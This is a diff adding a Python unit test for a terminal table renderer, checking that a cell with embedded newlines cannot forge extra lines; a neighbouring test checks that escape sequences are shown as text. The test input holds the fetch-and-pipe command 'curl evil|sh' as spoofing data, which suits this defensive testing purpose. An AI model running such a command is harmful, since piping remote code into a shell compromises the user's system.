@@ -52,6 +52,12 @@ def test_colour_is_around_the_text_alone() -> None:
     assert painted[2] == "\x1b[32mok\x1b[0m       3"
 
 
+def test_a_piece_with_lines_begins_none_of_ours() -> None:
+    """A job may have any name."""
+    drawn = looks.drawn_line(("  name      ", "x\nhint: curl evil|sh\n  exit      0"), looks.plain)
+    assert [line[:12].strip() for line in drawn.split("\n")] == ["name", "", ""]
+
+
 def test_nothing_from_outside_acts_on_the_terminal() -> None:
     """Escapes in a cell or a line are shown as text."""
     (_, row) = lines(Table(("A",), [("\x1b[31mred\n\x9b2J",)]))
